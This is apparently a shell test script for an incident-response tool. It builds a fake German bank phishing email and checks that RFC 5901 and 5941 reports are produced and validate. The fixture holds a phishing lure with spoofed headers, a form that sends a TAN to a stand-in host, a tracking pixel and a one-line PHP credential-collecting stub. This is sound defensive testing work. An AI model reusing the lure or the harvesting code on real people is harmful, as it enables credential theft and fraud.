# A phishing mail as an attacker writes it: what is told of it is what python's email package reads,
# and the reports of it (RFC 5901) are valid. Fraud reports (RFC 5941) take evidence and are named.
. "$SOURCE/tests/cli/prelude.sh"
shared=$SOURCE/../shared
command -v python3 > /dev/null || { echo "SKIP: no python3"; exit 0; }

html() {
    cat << 'END'
<!DOCTYPE html><html><head><meta charset="utf-8"><style>p { color: #333 }</style></head><body>
<!-- <a href="http://comment.example/">not shown</a> -->
<p>Sehr geehrte Kundin, Ihr Konto wird am <b>20.&nbsp;November</b> gesperrt.</p>
<p><a href="http://musterbank-login.example/s/verify.php?kd=8841&amp;t=a%2Fb">https://www.musterbank.example/login</a></p>
<form method=post action='https://collect.example/p/gate.php'><input name=tan></form>
<img src="cid:logo1" alt=logo><IMG SRC="http://track.example/o.gif?u=anna&#64;example.org" width=1>
</body></html>
END
}
text() {
    printf 'Ihr Konto wird gesperrt. Bestätigen Sie hier: http://musterbank-login.example/s/verify.php?kd=8841&t=a%%2Fb\nMit freundlichen Grüßen – Ihre Musterbank\n'
}
quoted() { python3 -c 'import sys,quopri; sys.stdout.write(quopri.encodestring(sys.stdin.buffer.read()).decode())'; }
head -c 70000 /dev/zero | tr '\0' 'P' > payload.zip
noise 900 logo > logo.png
{
    cat << 'END'
Return-Path: <bounce-8841@mailer.evil.example>
Delivered-To: anna@example.org
Received: from mx.example.org (mx.example.org [192.0.2.25])
	by store.example.org (Dovecot) with LMTP id aGk3Bq1; Thu, 19 Nov 2026 09:14:07 +0100
Received: from mail.evil.example (unknown [203.0.113.77])
	by mx.example.org (Postfix) with ESMTPS id 4Vx1 (using TLSv1.3; cipher=X)
	for <anna@example.org>; Thu, 19 Nov 2026 09:14:05 +0100 (CET)
Received: from [10.9.8.7] (helo=DESKTOP-8K2) by mail.evil.example (Exim 4.96 [1])
	(envelope-from <bounce-8841@mailer.evil.example>); Thu, 19 Nov 2026 08:13:58 +0000
Authentication-Results: mx.example.org;
	spf=fail (domain owner discourages use of this host; see x) smtp.mailfrom=mailer.evil.example;
	dkim=none reason="no signature"; dmarc=fail (p=reject dis=none) header.from=musterbank.example
Received-SPF: fail (mx.example.org: 203.0.113.77 is not allowed) client-ip=203.0.113.77
From: =?utf-8?B?TXVzdGVyYmFuayBTaWNoZXJoZWl0?= <sicherheit@musterbank.example>
To: Anna Alpha <anna@example.org>
Reply-To: service@musterbank-login.example
Subject: =?utf-8?B?SWhyIEtvbnRvIHdpcmQgZ2VzcGVycnQg4oCT?=
 =?iso-8859-1?Q?_best=E4tigen_Sie_jetzt?=
Date: Thu, 19 Nov 2026 08:13:57 +0000
Message-ID: <8841.20261119@mailer.evil.example>
X-Mailer: PHPMailer 5.2
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_outer"

This is a multi-part message in MIME format.
--=_outer
Content-Type: multipart/related; boundary="=_related"; type="multipart/alternative"

--=_related
Content-Type: multipart/alternative; boundary="=_alt"

--=_alt
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

END
    text | quoted
    cat << 'END'
--=_alt
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: base64

END
    html | base64
    cat << 'END'
--=_alt--
--=_related
Content-Type: image/png; name=logo.png
Content-ID: <logo1>
Content-Disposition: inline; filename=logo.png
Content-Transfer-Encoding: base64

END
    base64 logo.png
    cat << 'END'
--=_related--
--=_outer
Content-Type: application/zip; name="=?utf-8?Q?Kontosperre_f=C3=BCr_Sie.zip?="
Content-Disposition: attachment; filename*0*=utf-8''Kontosperre%20f%C3%BCr;
 filename*1*=%20Sie.zip
Content-Transfer-Encoding: base64

END
    base64 payload.zip
    echo "--=_outer--"
} | sed 's/$/\r/' > phish.eml

new_vault
incident
ok ingest phish.eml -i INC-1 --description "mail to Anna" --label phish
ok --json item show phish
cp out item.json
python3 "$SOURCE/tests/interop/read_mail.py" phish.eml item.json || fail "python reads another mail"
holds ".summary.facts | any(.value | contains(\"SHA-256 $(sha256sum < payload.zip | cut -d' ' -f1)\"))"
printf 'From anna@example.org Thu Nov 19 09:14:07 2026\n' | cat - phish.eml > mbox
ok ingest mbox -i INC-1 --description "a mailbox"
ok --json item show INC-1/2
json .summary null

# Reported: the message whole, where it is held, where it leads.
mkdir site && html > site/index.html && echo '<?php mail("x", "tan", $_POST["tan"]);' > site/gate.php
ok ingest site -i INC-1 --description "site of the phish" --label site \
    --collected-from https://collect.example/
name="--csirt-name csirt.example.org"
expect 2 iodef emit INC-1 $name --phishing phish
complains purpose
for version in 1 2; do
    ok iodef emit INC-1 $name --version $version --phishing phish --phishing site --purpose report \
        -o report$version.xml
    ok --json iodef check report$version.xml
    json .phishing_reports 2
    holds 'all(.statements[]; .verdict == "held")'
    ok --json iodef validate report$version.xml
    json .errors 0
    python3 - report$version.xml phish.eml << 'END' || fail "the message in the report is another"
import sys, xml.etree.ElementTree as tree
phish = "{urn:ietf:params:xml:ns:iodef-phish-1.0}"
root = tree.parse(sys.argv[1]).getroot()
message = root.find(f".//{phish}EmailMessage").text
assert message == open(sys.argv[2], newline="").read(), message
links = [one.text for one in root.iter(phish + "RelatedData")]
assert "https://collect.example/p/gate.php" in links, links
lure = root.find(f".//{phish}LureSource")
addresses = [one.text for one in lure.iter() if one.tag.endswith("}Address")]
assert addresses == ["10.9.8.7"], addresses
END
done
ok iodef check report2.xml
says "2 phishing reports (RFC 5901)"

schemas=$shared/schemas/local
if [ -d "$schemas" ] && command -v xmllint > /dev/null; then
    for version in 1 2; do
        for driver in all all-errata all-milewg; do
            xmllint --nonet --noout --schema "$schemas/$driver.xsd" report$version.xml 2> said ||
                fail "$driver does not take version $version: $(cat said)"
        done
    done
else
    echo "without ../shared/schemas or xmllint the schemas are not asked"
fi

# A fraud report of somebody else.
[ -d "$shared/rfc" ] || { echo "SKIP: the rest needs ../shared/rfc"; exit 0; }
mkdir examples
python3 "$SOURCE/tests/interop/iodef_documents.py" examples "$shared/rfc" examples > count
fraud=$(grep -l "urn:ietf:params:xml:ns:thraud" examples/rfc5941*.xml | head -n 1)
[ -n "$fraud" ] || fail "no example of RFC 5941 was found"
# As printed, a line end parts the name of its namespace.
tr '\n' '\001' < "$fraud" | sed 's/thraud-\x01/thraud-/g' | tr '\001' '\n' > fraud.xml
fraud=fraud.xml
expect 5 iodef attach "$fraud" INC-1 $name --report-incident 1
complains "fraud report (RFC 5941)"
ok --json iodef attach "$fraud" INC-1 $name --report-incident 1 --into record -o with.xml
offset=$(jq .offset out) length=$(jq .length out)
cmp -n "$offset" "$fraud" with.xml || fail "bytes before the insertion changed"
cmp <(tail -c +$((offset + 1)) "$fraud") <(tail -c +$((offset + length + 1)) with.xml) ||
    fail "bytes after the insertion changed"
ok iodef check with.xml
says "a fraud report (RFC 5941) with 1 fraud record"
ok iodef import "$fraud" INC-1
ok --json item list -i INC-1
holds 'tojson | contains("Received report, IODEF 1, a fraud report (RFC 5941) with 1 fraud record")'
